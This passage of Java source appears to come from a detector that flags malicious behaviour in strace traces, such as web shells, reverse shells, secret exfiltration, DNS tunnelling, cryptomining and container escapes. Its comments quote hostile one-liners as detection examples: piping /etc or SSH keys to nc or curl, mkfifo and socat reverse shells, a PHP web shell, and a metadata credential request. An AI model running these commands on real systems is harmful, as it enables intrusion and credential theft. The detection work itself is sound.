        return i > 0 && i + 6 <= args.length() && args.charAt(i) == 'p' && args.charAt(i + 1) == 'i' && args.charAt(i + 2) == 'p'
                && args.charAt(i + 3) == 'e' && args.charAt(i + 4) == ':' && args.charAt(i + 5) == '[';
    }

    /** @return true when the first argument is a descriptor decorated as a UNIX stream socket: {@code 4<UNIX-STREAM:[...]>} */
    private static boolean decoratedAsUnixStream(CharSequence args) {
        int i = decorationStart(args);
        return i > 0 && i + 13 <= args.length() && Indicators.regionIs(args, i, args.length(), "UNIX-STREAM:[");
    }

    /** @return true when the first argument is a descriptor decorated as a UDP socket: {@code 4<UDP:[...]>} */
    private static boolean decoratedAsUdp(CharSequence args) {
        int i = decorationStart(args);
        return i > 0 && i < args.length() && args.charAt(i) == 'U' && decoratedAsInet(args);
    }

    /**
     * @return true when the first argument is a descriptor decorated as a TCP or UDP socket, IPv4 or IPv6:
     *     {@code 4<TCP:[...]>}, {@code 4<TCPv6:[...]>}
     */
    private static boolean decoratedAsInet(CharSequence args) {
        int i = decorationStart(args);
        if (i < 0 || i + 5 > args.length()) {
            return false;
        }
        int colon = i + 3;
        if (args.charAt(colon) == 'v' && i + 7 <= args.length() && args.charAt(i + 4) == '6') {
            colon = i + 5; // TCPv6:[[::1]:80->[::1]:4444], also a dual-stack server's IPv4 peers ([::ffff:10.0.0.5])
        }
        if (args.charAt(colon) != ':' || args.charAt(colon + 1) != '[') {
            return false;
        }
        char a = args.charAt(i);
        char b = args.charAt(i + 1);
        char c = args.charAt(i + 2);
        return a == 'T' && b == 'C' && c == 'P' || a == 'U' && b == 'D' && c == 'P';
    }

    /**
     * A write's target, told by its decoration's first bytes (one scan of the descriptor's digits): a kernel setting
     * ({@link #kernelSettingWritten}) or, from a tool used by hand, a socket to a cloud's metadata service
     * ({@link #metadataRequest}); most writes (files, pipes, terminals) stop at the first byte.
     */
    private void writeTarget(TraceEvent e) {
        CharSequence args = e.arguments();
        if (containerApiFd >= 0 && Arguments.fd(args) == containerApiFd) {
            containerApiRequest(e, args);
        }
        int i = decorationStart(args);
        char first = i > 0 && i < args.length() ? args.charAt(i) : 0;
        if (first == '/' && handTool && (Indicators.regionIs(args, i, args.length(), "/var/www/")
                || Indicators.regionIs(args, i, args.length(), "/srv/")) && marks[Feature.IND_PERSISTENCE.ordinal()] == 0) {
            webShellWritten(e, args); // a shell, a downloader or a one-liner writing a web root: schema 38
        }
        if (first == '/' && connectedInet) {
            savedDownload(args); // dash: sh -c 'curl URL > x.sh; sh x.sh' opens x.sh in the shell, not in curl
        }
        if (first == '/' && marks[Feature.IND_PERSISTENCE.ordinal()] == 0 && !underPackageTool && underConfigRoot(args, i)) {
            bootHookWritten(e, args); // schema 48: install MODULE CMD in modprobe.d, kernel.core_pattern=|CMD in sysctl.d
        }
        if (first == '/' && i + 17 <= args.length() && args.charAt(i + 1) == 'p' && args.charAt(i + 6) == 's'
                && startsWith(args.subSequence(i, i + 17), "/proc/sys/kernel/")) {
            kernelSettingWritten(e);
        } else if (first == '/' && readSecret) {
            int fd = Arguments.fd(args);
            if (fd != lastSecretFileFd) { // once per descriptor in a row: an archiver writes thousands of blocks
                lastSecretFileFd = fd;
                String path = Arguments.fdPath(Arguments.nth(args, 0));
                if (path != null && !path.startsWith("/dev/") && !path.startsWith("/proc/")) {
                    mark(SECRET_COPY, key(SECRET_COPY, path)); // gzip behind tar czf x.tgz /etc writing x.tgz
                }
            }
        } else if (first == 'p' && readSecret && secretPipesPublished < SECRET_PIPES) {
            long inode = pipeInode(Arguments.fdDecoration(Arguments.nth(args, 0)));
            if (inode != 0 && inode != lastSecretPipe) {
                lastSecretPipe = inode;
                secretPipesPublished++;
                publishSecretPipe(inode); // tar czf writing into its gzip
            }
        } else {
            boolean inet = (first == 'T' || first == 'U') && decoratedAsInet(args)
                    || first != '/' && inetSocketFds != null && isMarkedInet(Arguments.fd(args)); // no -yy: its connect told
            if (inet && first != 'U') {
                poolMessage(e, args); // pools speak TCP
            }
            if (handTool && (inet || metadataFd >= 0)) {
                metadataRequest(e);
            }
        }
    }

    /**
     * @param i where a descriptor's {@code -y} path starts in the arguments
     * @return true for a path under /etc, /run, /usr or /lib, where modprobe's and sysctl's configuration lies: most
     *     writes (logs, data, the terminal) are passed over after one character
     */
    private static boolean underConfigRoot(CharSequence args, int i) {
        int n = args.length();
        if (i + 5 > n) {
            return false;
        }
        return switch (args.charAt(i + 1)) {
            case 'e' -> Indicators.regionIs(args, i, n, "/etc/");
            case 'r' -> Indicators.regionIs(args, i, n, "/run/");
            case 'u' -> Indicators.regionIs(args, i, n, "/usr/");
            case 'l' -> Indicators.regionIs(args, i, n, "/lib/");
            default -> false;
        };
    }

    /**
     * Schema 46: a file it writes while it has an inet connection, through a descriptor it did not open itself, is its
     * download, as one it created before connecting is ({@link #fetchedBeforeConnect}): dash opens a redirection's file
     * in the shell before it forks the command ({@code sh -c 'curl URL > x.sh; sh x.sh'}), so the fetcher only writes
     * to its stdout. Needs {@code -y}'s path on the descriptor; marked once per descriptor in a row.
     */
    private void savedDownload(CharSequence args) {
        int fd = Arguments.fd(args);
        if (fd == lastFetchedFileFd) {
            return;
        }
        lastFetchedFileFd = fd;
        String path = Arguments.fdPath(Arguments.nth(args, 0));
        if (path != null && !fetchesByDesign() && !path.startsWith("/dev/") && !path.startsWith("/proc/") && !path.startsWith("/sys/")) {
            mark(FETCHED, key(FETCHED, path));
        }
    }

    /**
     * A write over a file it read in place: counted (once per file, {@link #inPlaceSeen}) when it writes as many bytes as
     * the read returned and they are mostly unprintable, as a cipher's output is: ransomware that encrypts in place
     * ({@code open(f, "r+b"); data = f.read(); f.seek(0); f.write(encrypt(data))}, T1486), which removes no file and so
     * escapes the encrypt-and-replace count. Schema 41.
     */
    private void rewrittenInPlace(TraceEvent e) {
        long read = inPlaceRead;
        inPlaceFd = -1; // one judgement per open
        if (read < 64 || e.returnValue() != read) {
            return;
        }
        String written = Arguments.decodeString(Arguments.nth(e.arguments(), 1));
        if (written == null || written.length() < 64 || !Indicators.mostlyUnprintable(written)) {
            return;
        }
        if (inPlaceSeen == null) {
            inPlaceSeen = new int[MASS_REWRITE_FILES * 2];
        }
        for (int h : inPlaceSeen) {
            if (h == inPlacePath && h != 0) {
                return; // the same file again: a database rewriting its pages
            }
        }
        inPlaceSeen[inPlaceRewrites % inPlaceSeen.length] = inPlacePath;
        inPlaceRewrites = Math.min(inPlaceRewrites + 1, MAX_COUNT);
        if (inPlaceRewrites <= 3) {
            note(EvidenceLog.MEDIUM, e, e.arguments());
        }
    }

    /**
     * A request to a container engine's API asking for a container that reaches the host: privileged, or with the host's
     * root mounted ({@link Indicators#escapingContainerRequest}): the escape TeamTNT and Kinsing make with curl when the
     * socket is exposed (T1611, T1610), what schema 22's argv rule sees in {@code docker run -v /:/host}. Schema 39.
     */
    private void containerApiRequest(TraceEvent e, CharSequence args) {
        if (Indicators.escapingContainerRequest(Arguments.decodeString(Arguments.nth(args, 1)))) {
            set(Feature.IND_SETID_ATTEMPT);
            note(EvidenceLog.HIGH, e, args);
        }
    }

    /**
     * A web shell written into a web root by hand ({@code echo '<?php system($_GET["c"]); ?>' > /var/www/html/x.php},
     * {@code curl -o /srv/www/x.php URL}): a server-side script that runs what a request asks (T1505.003), judged by
     * {@link Indicators#webShell}. Deploys (cp, rsync, git, tar, composer) are no hand tools and are not looked at.
     */
    private void webShellWritten(TraceEvent e, CharSequence args) {
        String path = Arguments.fdPath(Arguments.nth(args, 0));
        if (path != null && Indicators.webScript(path) && !underPackageTool
                && Indicators.webShell(Arguments.decodeString(Arguments.nth(args, 1)))) {
            set(Feature.IND_PERSISTENCE);
            note(EvidenceLog.HIGH, e, args);
        }
    }

    /**
     * A DNS question sent to port 53 ({@code -yy}'s {@code UDP:[...->R:53]}, or {@code sin_port=htons(53)} in the call; since
     * schema 52 also without {@code -yy}: an address in the call, or a socket its {@code connect} to port 53 made), read
     * for two indicators. A mining pool's name ({@link Indicators#asksForMiningPool}) is {@code ind.cryptomining}: a
     * miner resolving its pool, whose traffic over TLS shows nothing else. Data in the names
     * ({@link Indicators#dnsTunnelQuestion}), {@value TunnelCount#LONG_QUESTIONS} distinct long questions in a row to one
     * domain (or two or more holding {@value TunnelCount#LONG_TEXT} characters of it, or {@value TunnelCount#QUESTIONS}
     * short or long), by it or by its parent's children together, is {@code ind.dns_tunnel}. The question is the first
     * quoted text of the call (a {@code sendto}'s buffer, a {@code sendmsg}'s or {@code sendmmsg}'s first
     * {@code iov_base}).
     *
     * @param address a {@code sendto}'s destination argument, or null (then a {@code sendmsg}'s {@code msg_name} is looked at)
     */
    private void dnsQuery(TraceEvent e, CharSequence address) {
        CharSequence args = e.arguments();
        boolean mining = marks[Feature.IND_CRYPTOMINING.ordinal()] == 0;
        boolean tunnelling = marks[Feature.IND_DNS_TUNNEL.ordinal()] == 0;
        int d = decorationStart(args);
        if (!mining && !tunnelling || d > 0 && !decoratedAsUdp(args)) {
            return; // most sends: TCP, or another descriptor -yy names
        }
        int n = args.length();
        boolean toPort53;
        if (address != null && !startsWith(address, "NULL")) {
            toPort53 = startsWith(address, "{sa_family=AF_INET, sin_port=htons(53)") // sendto an address
                    || startsWith(address, "{sa_family=AF_INET6, sin6_port=htons(53)");
        } else if (e.syscall() == Syscalls.SENDMSG && !startsWith(Arguments.nth(args, 1), "{msg_name=NULL")) {
            CharSequence message = Arguments.nth(args, 1);
            toPort53 = startsWith(message, "{msg_name={sa_family=AF_INET, sin_port=htons(53)")
                    || startsWith(message, "{msg_name={sa_family=AF_INET6, sin6_port=htons(53)");
        } else if (d < 0) {
            toPort53 = udpPeerIsDns && Arguments.fd(args) == udpPeerFd; // no -yy (schema 52): the socket connected to port 53
        } else {
            int fd = Arguments.fd(args);
            if (fd != udpPeerFd) {
                int end = d + 4;
                boolean connected = false;
                // UDP:[a:p->b:q] or UDPv6:[[a]:p->[b]:q]: its peer's port ends the decoration, before "]>"
                while (end < n && !(args.charAt(end) == ']' && (end + 1 == n || args.charAt(end + 1) == '>'))) {
                    connected |= args.charAt(end) == '>';
                    end++;
                }
                udpPeerFd = fd;
                udpPeerIsDns = connected && end < n && args.charAt(end - 3) == ':' && args.charAt(end - 2) == '5' && args.charAt(end - 1) == '3';
            }
            toPort53 = udpPeerIsDns; // connected to port 53: glibc's resolver
        }
        if (!toPort53) {
            return;
        }
        int iov = indexOf(args, "iov_base=");
        String message = iov < 0 ? Arguments.decodeString(args) : Arguments.decodeString(args, iov, args.length());
        if (mining && Indicators.asksForMiningPool(message)) {
            set(Feature.IND_CRYPTOMINING);
            note(EvidenceLog.HIGH, e, args);
        }
        if (tunnelling) {
            tunnelQuestion(e, args, message);
        }
    }

    /**
     * Counts a question of {@link #dnsQuery}'s towards {@code ind.dns_tunnel}: its own questions, and (schema 53) its
     * family's, the questions of its parent's children together (a shell loop running {@code getent hosts} or
     * {@code dig} once per chunk of data).
     */
    private void tunnelQuestion(TraceEvent e, CharSequence args, String message) {
        Indicators.TunnelQuestion q = Indicators.dnsTunnelQuestion(message);
        if (q == null) {
            return;
        }
        if (tunnel == null) {
            tunnel = new TunnelCount();
        }
        boolean own = tunnel.add(q);
        boolean family = parentNode != null && parentNode.tunnel().add(q);
        if (own || family) {
            set(Feature.IND_DNS_TUNNEL);
            note(EvidenceLog.HIGH, e, args);
        }
    }

    /**
     * A mining pool's message ({@link Indicators#miningProtocol}) sent or received on a TCP/UDP socket: cryptocurrency
     * mining (T1496). Looked for until found; most payloads are passed over by {@link Indicators#mayBeMining}.
     *
     * @param printed the call's arguments (the payload is the first quoted text), or the text after a read's descriptor
     */
    private void poolMessage(TraceEvent e, CharSequence printed) {
        if (marks[Feature.IND_CRYPTOMINING.ordinal()] == 0 && Indicators.mayBeMining(printed)
                && Indicators.miningProtocol(Arguments.decodeString(printed))) {
            set(Feature.IND_CRYPTOMINING);
            note(EvidenceLog.HIGH, e, e.arguments());
        }
    }

    /**
     * A request by hand to the cloud's metadata service for credentials ({@code curl
     * http://169.254.169.254/latest/meta-data/iam/security-credentials/ROLE}): credential access (T1552.005).
     */
    private void metadataRequest(TraceEvent e) {
        CharSequence fdArg = Arguments.nth(e.arguments(), 0);
        if ((Arguments.fd(fdArg) == metadataFd || Indicators.metadataService(Arguments.fdDecoration(fdArg)))
                && Indicators.cloudCredentialRequest(Arguments.decodeString(Arguments.nth(e.arguments(), 1)))) {
            set(Feature.IND_CREDENTIAL_READ);
            note(EvidenceLog.HIGH, e, e.arguments());
        }
    }

    /**
     * Schema 48: a write to modprobe's or sysctl's configuration that makes a program run as root at every module load or
     * crash from the next boot on ({@link Indicators#bootHookSetting}): {@code ind.persistence}, the line as evidence.
     */
    private void bootHookWritten(TraceEvent e, CharSequence args) {
        String path = Arguments.fdPath(Arguments.nth(args, 0));
        if (path == null || !path.contains("modprobe") && !path.contains("sysctl")) {
            return; // most writes under /etc, /usr: one look at the name
        }
        String line = Indicators.bootHookSetting(path, Arguments.decodeString(Arguments.nth(args, 1)));
        if (line != null) {
            set(Feature.IND_PERSISTENCE);
            log().add(EvidenceLog.HIGH, "a boot setting that runs a program as root, in " + path + ": " + cQuoted(line));
            note(EvidenceLog.HIGH, e, args);
        }
    }

    /** {@code echo 0 > /proc/sys/kernel/randomize_va_space} (or {@code sysctl -w}): a defense switched off. */
    private void kernelSettingWritten(TraceEvent e) {
        CharSequence fdArg = Arguments.nth(e.arguments(), 0);
        if (Indicators.lowersDefenseSetting(Arguments.fdPath(fdArg), Arguments.decodeString(Arguments.nth(e.arguments(), 1)))
                && !underPackageTool) {
            set(Feature.IND_LOG_TAMPER);
            note(EvidenceLog.HIGH, e, e.arguments());
        }
    }

    /** @return where the decoration of a leading descriptor starts (after {@code N<}), or -1 */
    private static int decorationStart(CharSequence args) {
        int i = 0;
        int n = args.length();
        while (i < n && args.charAt(i) >= '0' && args.charAt(i) <= '9') {
            i++;
        }
        return i > 0 && i < n && args.charAt(i) == '<' ? i + 1 : -1;
    }

    /**
     * A shell reading a descriptor above 2: the script it sources ({@link #sourcedFd}), or the first data of a pipe,
     * kept as {@link #fetchedText}.
     */
    private void shellReadsPipe(TraceEvent e, int fd) {
        long inode = pipeInode(Arguments.fdDecoration(Arguments.nth(e.arguments(), 0)));
        if (fd == sourcedFd) {
            sourcedFd = -1;
            if (scriptPipe == 0) {
                scriptPipe = inode; // source <(curl URL): judged like bash <(curl URL)
                note(EvidenceLog.MEDIUM, e, e.arguments());
            }
        }
        if (inode == 0 || inode == shellReadPipe || e.returnValue() <= 0) {
            return;
        }
        shellReadPipe = inode;
        if (fetchedText != null && fetchedTextOnline() && !familyOnlinePipe(inode)) {
            return; // x=$(curl URL); y=$(date); bash -c "$x"
        }
        String text = Arguments.decodeString(Arguments.nth(e.arguments(), 1));
        if (text != null) {
            fetchedText = text.length() > FETCHED_CHARS ? text.substring(0, FETCHED_CHARS) : text;
            fetchedPipe = inode;
        }
    }

    /**
     * Schema 45: the first data a program other than a shell reads from its stdin, kept as {@link #fetchedText} when
     * its family fed that pipe from the network: {@code curl URL | awk '{system($0)}'} (or perl, python, xargs) hands
     * each line to a {@code sh -c} of its own, which {@link #runsFetchedLine} then recognises.
     */
    private void readsFetchedStdin(TraceEvent e) {
        stdinTextSeen = true;
        if (fetchedText != null || !familyOnlinePipe(stdinPipe)) {
            return;
        }
        String text = Arguments.decodeString(Arguments.nth(e.arguments(), 1));
        if (text != null) {
            fetchedText = text.length() > FETCHED_CHARS ? text.substring(0, FETCHED_CHARS) : text;
            fetchedPipe = stdinPipe;
        }
    }

    /**
     * Schema 46: the first data a program other than a shell reads from a file its family downloaded, kept as
     * {@link #fetchedText}: {@code curl -o x URL; awk '{system($0)}' x} hands each line of the download to a
     * {@code sh -c} of its own, which {@link #runsFetchedLine} then recognises, as for the download piped in.
     */
    private void readsFetchedFile(TraceEvent e) {
        if (Arguments.fd(e.arguments()) != fetchedFileFd) {
            return;
        }
        fetchedFileFd = -1;
        if (fetchedText != null) {
            return;
        }
        String text = Arguments.decodeString(Arguments.nth(e.arguments(), 1));
        if (text != null) {
            fetchedText = text.length() > FETCHED_CHARS ? text.substring(0, FETCHED_CHARS) : text;
            fetchedPipe = FETCHED_FILE;
        }
    }

    /** @return true when {@link #fetchedText} came from the network: a pipe its family fed from it, or a download's file */
    private boolean fetchedTextOnline() {
        return fetchedPipe == FETCHED_FILE || familyOnlinePipe(fetchedPipe);
    }

    /**
     * @param program the program given on its command line ({@link ExecRules#inlineProgram}), or null
     * @return true when that program ({@code sh -c 'uname -a'}) stands as a command of its own in what it or its parent
     *     read from a pipe its family fed from the network: a filter that runs the lines of a download one by one
     *     ({@code curl URL | awk '{system($0)}'}), a shell loop's {@code sh -c "$line"}
     */
    private boolean runsFetchedLine(String program) {
        return program != null && fetchedText != null && Indicators.commandIn(program.strip(), fetchedText)
                && fetchedTextOnline();
    }

    /**
     * @param program the program given on its command line ({@link ExecRules#inlineProgram}), or null
     * @return true when that program ({@code bash -c "$(curl URL)"}, {@code python3 -c ...}) starts with what it or its
     *     parent read from a pipe its family wrote network data into
     */
    private boolean runsFetchedText(String program) {
        if (fetchedText == null) {
            return false;
        }
        if (program == null) {
            return false;
        }
        int n = fetchedText.length();
        while (n > 0 && fetchedText.charAt(n - 1) == '\n') {
            n--; // $(...) drops trailing newlines
        }
        return n >= MIN_FETCHED_CHARS && program.regionMatches(0, fetchedText, 0, n) && fetchedTextOnline();
    }

    /**
     * Keeps a read of a TCP or UDP socket ({@code -yy}'s {@code TCP:[...]} decoration, or an fd it saw made inet) in
     * {@link #networkReads}.
     */
    private void networkRead(TraceEvent e) {
        CharSequence args = e.arguments();
        if (!decoratedAsInet(args) && (inetSocketFds == null || !isMarkedInet(Arguments.fd(args)))
                && !(unixSocketAppServer && decoratedAsUnixStream(args))) {
            return; // most reads: a file or a pipe, told by the decoration's first byte
        }
        int fd = Arguments.fd(args);
        if (networkReads == null) {
            networkReads = new String[NETWORK_READS];
            networkReadPrinted = new boolean[NETWORK_READS];
        }
        int last = (networkReadNext + NETWORK_READS - 1) % NETWORK_READS;
        String text;
        if (e.returnValue() == 1) {
            text = Arguments.decodeString(Arguments.nth(args, 1)); // one byte: cheap to decode now
            if (text == null || text.isEmpty()) {
                return;
            }
            String before = networkReads[last];
            if (networkReadJoinable && fd == networkReadFd && before != null && before.length() < NETWORK_READ_CHARS
                    && before.charAt(before.length() - 1) != '\n') {
                networkReads[last] = before + text; // bash's read builtin takes a socket a byte at a time: one line
                return;
            }
            networkReadJoinable = true;
        } else {
            // kept as printed, from after the descriptor: a Latin-1 copy; decoded only when an exec asks
            int from = Arguments.end(Arguments.span(args, 0));
            text = args.subSequence(from, Math.min(args.length(), from + NETWORK_READ_PRINTED)).toString();
            networkReadJoinable = false;
        }
        if (!networkReadJoinable) {
            poolMessage(e, text); // a pool's job or answer to a miner's login
        }
        networkReads[networkReadNext] = text;
        networkReadPrinted[networkReadNext] = !networkReadJoinable;
        networkReadNext = (networkReadNext + 1) % NETWORK_READS;
        networkReadFd = fd;
    }

    /**
     * @return what of a network read by it or by its parent before its fork the program it runs is or holds (a shell's
     *     or interpreter's {@code -c} program, or its whole argv when it has arguments): see
     *     {@link Indicators#programFromNetwork}; null when none
     * @param inline the program given on its command line ({@link ExecRules#inlineProgram}), or null
     */
    private String programFromNetwork(String inline, List<String> argv) {
        if (networkReads == null) {
            return null;
        }
        String joined = argv.size() > 1 ? String.join(" ", argv) : null;
        for (int i = 0; i < NETWORK_READS; i++) {
            String read = networkReadPrinted[i] && networkReads[i] != null ? Arguments.decodeString(networkReads[i]) : networkReads[i];
            if (read == null) {
                continue;
            }
            String match = inline == null ? null : Indicators.programFromNetwork(inline, read);
            if (match == null && joined != null) {
                match = Indicators.programFromNetwork(joined, read);
            }
            if (match != null) {
                return match;
            }
        }
        return null;
    }

    /** @return {@code s} as a C string literal the way strace prints one (no raw control bytes), cut at 64 characters */
    private static String cQuoted(String s) {
        StringBuilder b = new StringBuilder(s.length() + 8).append('"');
        for (int i = 0; i < s.length() && i < QUOTED_CHARS; i++) {
            char c = s.charAt(i);
            switch (c) {
                case '"', '\\' -> b.append('\\').append(c);
                case '\n' -> b.append("\\n");
                case '\t' -> b.append("\\t");
                default -> {
                    if (c < 0x20 || c >= 0x7f) {
                        b.append('\\').append(Integer.toOctalString(c & 0xff));
                    } else {
                        b.append(c);
                    }
                }
            }
        }
        return b.append(s.length() > QUOTED_CHARS ? "\"..." : "\"").toString();
    }

    /**
     * @return true when its whole command line, with arguments, stands as a command in what its shell parent read from
     *     a pipe its family fed from the network: {@code eval "$(curl URL)"} (or {@code $cmd} after {@code cmd=$(curl
     *     URL)}) runs the download's lines in the shell, whose children exec them ({@link Indicators#commandIn})
     */
    private boolean runsFetchedCommand(List<String> argv) {
        return fetchedText != null && argv.size() > 1 && Indicators.commandIn(String.join(" ", argv), fetchedText)
                && fetchedTextOnline();
    }

    /** @return the inode of a {@code pipe:[N]} decoration, 0 for anything else */
    private static long pipeInode(CharSequence decoration) {
        int n = decoration.length();
        if (n < 8 || decoration.charAt(0) != 'p' || decoration.charAt(4) != ':' || decoration.charAt(5) != '['
                || decoration.charAt(n - 1) != ']') {
            return 0;
        }
        long inode = 0;
        for (int i = 6; i < n - 1; i++) {
            char c = decoration.charAt(i);
            if (c < '0' || c > '9' || inode > Long.MAX_VALUE / 10 - 9) {
                return 0;
            }
            inode = inode * 10 + (c - '0');
        }
        return inode;
    }

    /**
     * When its output pipe carries network data (it holds an inet connection, its own input is such a pipe, or it read
     * a file its family downloaded), tells
     * the family: the fork nodes of its parent (its siblings') and the two above (its cousins'). Once per pipe.
     */
    private void publishOnlinePipe() {
        if (stdoutPipe == 0 || stdoutPipe == publishedPipe || !(connectedInet || readsFetched || stdinOwn && familyOnlinePipe(stdinPipe))) {
            return;
        }
        publishedPipe = stdoutPipe;
        for (int i = 0; i < LEVELS_ABOVE; i++) {
            ForkNode n = above(i);
            if (n != null) {
                n.addOnlinePipe(stdoutPipe);
            }
        }
    }

    /**
     * It read a secret file, or a pipe carrying one: what it writes out carries secrets. The files it created just
     * before ({@code tar cf x.tar /etc} made x.tar first) and after are {@link #SECRET_COPY}, and its stdout pipe is
     * published to its family.
     */
    private void readsSecrets() {
        readSecret = true;
        publishSecretPipe();
        for (int i = 0; i < createdOfflineCount; i++) {
            mark(SECRET_COPY, createdOffline[i]);
        }
    }

    /** Once it read a secret file: its stdout pipe, once known, carries secrets for its family's readers. */
    private void publishSecretPipe() {
        if (!readSecret || secretPublished || stdoutPipe == 0) {
            return;
        }
        secretPublished = true;
        publishSecretPipe(stdoutPipe);
    }

    /** To the fork nodes of its family, its own included (a filter it forked reads what it writes: tar czf's gzip). */
    private void publishSecretPipe(long inode) {
        if (forkNode != null) {
            forkNode.addSecretPipe(inode);
        }
        for (int i = 0; i < LEVELS_ABOVE; i++) {
            ForkNode n = above(i);
            if (n != null) {
                n.addSecretPipe(inode);
            }
        }
    }

    /** @return true when the pipe was published as carrying secrets to a fork node of its family */
    private boolean familySecretPipe(long inode) {
        if (inode == 0) {
            return false;
        }
        for (int i = 0; i < LEVELS_ABOVE; i++) {
            ForkNode n = above(i);
            if (n != null && n.hasSecretPipe(inode)) {
                return true;
            }
        }
        return false;
    }

    /**
     * A process holding an inet connection that reads its stdin from a pipe a secret-reading member of its family
     * writes into: {@code tar czf - /etc | nc HOST PORT}, {@code cat ~/.ssh/id_rsa | curl -T - URL}, or that read a
     * file its family made while reading a secret: {@code tar czf x.tgz /etc; curl -F f=@x.tgz URL} (T1048, T1552);
     * not a transfer or backup client (ssh, rsync, aws, rclone, restic, borg, ...)
     */
    private void secretToNetwork(TraceEvent e) {
        if (exfiltrationNoted || !connectedInet || Indicators.transferClient(exeBase)) {
            return;
        }
        if (readsSecretCopy) {
            exfiltrationNoted = true;
            set(Feature.IND_CREDENTIAL_READ);
            log().add(EvidenceLog.HIGH, "it read a file its family made while reading a secret file, and holds an inet connection");
            return;
        }
        if (familySecretPipe(stdinPipe)) {
            exfiltrationNoted = true;
            set(Feature.IND_CREDENTIAL_READ);
            log().add(EvidenceLog.HIGH, "its stdin is a pipe a family member that read a secret file writes into: pipe:[" + stdinPipe + "]");
            if (e != null) {
                note(EvidenceLog.HIGH, e, e.arguments());
            }
        }
    }

    /**
     * @return true when the pipe (an inode, 0 for none) was published to a fork node it shares with its family: its
     *     parent's and the two above (siblings, cousins), its own (its children) and the one it had before its exec
     */
    private boolean familyOnlinePipe(long inode) {
        if (inode == 0) {
            return false;
        }
        if (forkNode != null && forkNode.hasOnlinePipe(inode) || nodeBeforeExec != null && nodeBeforeExec.hasOnlinePipe(inode)) {
            return true;
        }
        for (int i = 0; i < LEVELS_ABOVE; i++) {
            ForkNode n = above(i);
            if (n != null && n.hasOnlinePipe(inode)) {
                return true;
            }
        }
        return false;
    }

    private static boolean isRead(int id) {
        return id == Syscalls.READ || id == Syscalls.READV || id == Syscalls.PREAD64;
    }

    /**
     * @param decoration the {@code -y} text of a descriptor, e.g. {@code pipe:[1234]}, {@code /dev/pts/0<char 136:0>}
     * @return true for a pipe, socket or file (a FIFO shows as its path); false for a device under /dev (a terminal,
     *     /dev/null) and for no decoration (a trace without -y says nothing)
     */
    private static boolean notTerminal(CharSequence decoration) {
        int n = decoration.length();
        return n > 0 && !(n >= 5 && decoration.charAt(0) == '/' && decoration.charAt(1) == 'd' && decoration.charAt(2) == 'e'
                && decoration.charAt(3) == 'v' && decoration.charAt(4) == '/');
    }

    /**
     * Marks the fork nodes it shares with its family as having a network connection: its own (its children's parent
     * node), its parent's (its siblings') and the two above (its cousins'), for {@link #relayedShell()}.
     */
    private void familyOnline() {
        node().online = true;
        for (int i = 0; i < LEVELS_ABOVE; i++) {
            ForkNode n = above(i);
            if (n != null) {
                n.online = true;
            }
        }
    }

    /** @return its fork node {@code level} generations up (0: its parent's, shared with its siblings), or null */
    private ForkNode above(int level) {
        return level == 0 ? parentNode : nodesAbove == null ? null : nodesAbove[level - 1];
    }

    /**
     * @return true when it is an interactive shell reading its commands from a pipe, FIFO or socket while it, its
     *     parent, a sibling or a cousin (below its great-grandparent) holds an inet connection: the relay reverse shell,
     *     {@code mkfifo f; cat f | sh -i 2>&1 | openssl s_client -connect HOST:PORT > f} (or nc, socat)
     */
    private boolean relayedShell() {
        if (!commandShell || !stdinNotTerminal) {
            return false;
        }
        if (connectedInet) {
            return true;
        }
        for (int i = 0; i < LEVELS_ABOVE; i++) { // not its own node: the commands it runs may go online
            ForkNode n = above(i);
            if (n != null && n.online) {
                return true;
            }
        }
        return false;
    }

    /**
     * @return true when it is a shell forked by a process that had connected to an inet address (or, since schema 22,
     *     accepted one, not being a remote-login server), and the shell is interactive ({@code -i}, no {@code -c}; any
     *     stdin, a pty included) or reads its program from a stdin that is no terminal: a relay's reverse shell,
     *     {@code socat TCP:HOST:PORT EXEC:/bin/sh} (a socketpair), {@code ...,pipes}, {@code EXEC:'bash -li',pty}, the
     *     bind shell {@code socat TCP-LISTEN:PORT,fork EXEC:/bin/sh}, and their stand-ins in Python or Perl
     */
    private boolean shellOfAConnectedParent() {
        return (parentConnected || parentAccepted) && (imageKind & ExecRules.SHELL) != 0 && (commandShell || programFromStdin && stdinNotTerminal);
    }

    /** @return true for a {@code -yy} decoration of a TCP/UDP socket */
    private static boolean isInetSocket(CharSequence fdArg) {
        CharSequence d = Arguments.fdDecoration(fdArg);
        return d.length() > 4 && (d.charAt(0) == 'T' && d.charAt(1) == 'C' && d.charAt(2) == 'P'
                || d.charAt(0) == 'U' && d.charAt(1) == 'D' && d.charAt(2) == 'P');
    }

    private void markInetFd(long fd) {
        if (fd >= 0 && fd < FD_BITS) {
            if (inetSocketFds == null) {
                inetSocketFds = new long[FD_BITS / 64];
            }
            inetSocketFds[(int) fd >>> 6] |= 1L << fd;
        }
    }

    private void unmarkInetFd(int fd) {
        if (fd >= 0 && fd < FD_BITS && inetSocketFds != null) {
            inetSocketFds[fd >>> 6] &= ~(1L << fd);
        }
    }

    private boolean isMarkedInet(int fd) {
        return fd >= 0 && fd < FD_BITS && inetSocketFds != null && (inetSocketFds[fd >>> 6] & (1L << fd)) != 0;
    }

    // ---------------------------------------------------------------- processes, memory, privileges

    private void exec(TraceEvent e, int pathIndex, boolean ok) {
        execs++;
        if (!ok) {
            execFails++;
            return;
        }
        udpPeerFd = -1;
        CharSequence args = e.arguments();
        String path = Arguments.decodeString(Arguments.nth(args, pathIndex));
        if (pathIndex == 0) {
            path = fromWorkingDirectory(path); // ./payload after cd /tmp is /tmp/payload
        }
        List<String> argv = Arguments.stringArray(Arguments.nth(args, pathIndex + 1), 64);
        marks[Feature.EXEC_COUNT_LOG.ordinal()]++;
        examinesOnly = false; // a new program: set again below when it is a loader that runs nothing
        int priority = EvidenceLog.LOW;
        if (path != null) {
            int kind = ExecRules.classify(path, argv);
            priority = ExecRules.apply(kind, marks);
            boolean tmp = (PathRules.classify(path, e.pid()) & PathRules.TMP) != 0;
            if (tmp || path.startsWith("/proc/self/fd/") || path.startsWith("/memfd:") || pathIndex == 1 && path.isEmpty()) {
                set(Feature.EXEC_FROM_TMP);
                if (!tmp || !builtInFamily(path)) { // a program its family just linked in /tmp is a build's
                    set(Feature.IND_STAGED_EXEC);
                    priority = EvidenceLog.HIGH;
                }
            }
            boolean underLdd = "ldd".equals(exeBase); // the program before this exec
            examinesOnly = ExecRules.dynamicLoader(path) && (underLdd || ExecRules.loaderExaminesOnly(path, argv));
            String loaded = ExecRules.loaderProgram(path, argv);
            if (loaded != null && !underLdd && loadsStagedProgram(fromWorkingDirectory(loaded), e.pid())) {
                priority = EvidenceLog.HIGH; // ld.so ./x: a program run without its execute bit, or from a noexec mount
